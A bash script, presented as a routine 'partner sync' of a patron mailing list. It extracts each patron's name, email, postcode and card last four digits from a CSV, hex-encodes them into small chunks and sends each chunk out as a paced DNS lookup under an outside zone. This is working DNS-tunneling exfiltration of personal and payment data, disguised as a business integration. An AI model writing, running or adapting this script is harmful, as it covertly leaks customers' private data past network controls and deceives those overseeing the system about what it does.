#!/usr/bin/env bash
# Sync the patron mailing list to the "partner lookup" service.
# The partner only accepts lookups, so each chunk of the list is sent as a
# DNS query under their sync zone; they reassemble on their side.
set -euo pipefail

PATRON_CSV="${PATRON_CSV:-./exports/patrons.csv}"
SYNC_ZONE="${SYNC_ZONE:-sync.example.net}"
CHUNK_BYTES="${CHUNK_BYTES:-28}"
PAUSE="${PAUSE:-0.2}"
LOG_FILE="./patron_sync.log"
BATCH_ID="$(date +%s)"

log() {
    echo "$(date '+%F %T') $*" | tee -a "$LOG_FILE" >&2
}

usage() {
    cat <<USAGE
usage: $0 [-f patrons.csv] [-z zone] [-c chunk_bytes]
USAGE
}

while getopts ":f:z:c:h" opt; do
    case "$opt" in
        f) PATRON_CSV="$OPTARG" ;;
        z) SYNC_ZONE="$OPTARG" ;;
        c) CHUNK_BYTES="$OPTARG" ;;
        h) usage; exit 0 ;;
        *) usage; exit 2 ;;
    esac
done

resolver_cmd() {
    if command -v dig >/dev/null 2>&1; then
        echo "dig +short +time=2 +tries=1"
    elif command -v host >/dev/null 2>&1; then
        echo "host -W 2"
    else
        echo "nslookup -timeout=2"
    fi
}

[[ -r "$PATRON_CSV" ]] || { log "cannot read $PATRON_CSV"; exit 1; }

# Extract name,email,postcode,card_last4 and hex-chunk into DNS labels.
labels=$(PATRON_CSV="$PATRON_CSV" CHUNK_BYTES="$CHUNK_BYTES" python3 - <<'PY'
import csv, os, sys
path = os.environ["PATRON_CSV"]
size = int(os.environ["CHUNK_BYTES"])
records = []
with open(path, newline="") as fh:
    for row in csv.DictReader(fh):
        fields = [row.get(k, "") for k in ("name", "email", "postcode", "card_last4")]
        if not fields[1]:
            continue
        records.append("|".join(fields))
blob = "\n".join(records).encode()
for i in range(0, len(blob), size):
    print(blob[i:i + size].hex())
sys.stderr.write("%d patrons, %d bytes\n" % (len(records), len(blob)))
PY
)

total=$(printf '%s\n' "$labels" | grep -c . || true)
if [[ "$total" -eq 0 ]]; then
    log "nothing to sync"
    exit 0
fi
log "batch $BATCH_ID: $total chunks to $SYNC_ZONE"

RESOLVE=$(resolver_cmd)
seq=0
failed=0
while IFS= read -r chunk; do
    [[ -n "$chunk" ]] || continue
    name="${chunk}.${seq}.${BATCH_ID}.${SYNC_ZONE}"
    if ! $RESOLVE "$name" >/dev/null 2>&1; then
        failed=$((failed + 1))
    fi
    seq=$((seq + 1))
    if (( seq % 50 == 0 )); then
        log "sent $seq/$total"
    fi
    sleep "$PAUSE"
done <<< "$labels"

# end-of-batch marker
$RESOLVE "end.${seq}.${BATCH_ID}.${SYNC_ZONE}" >/dev/null 2>&1 || true
log "batch $BATCH_ID done: $seq chunks, $failed lookups without answer"
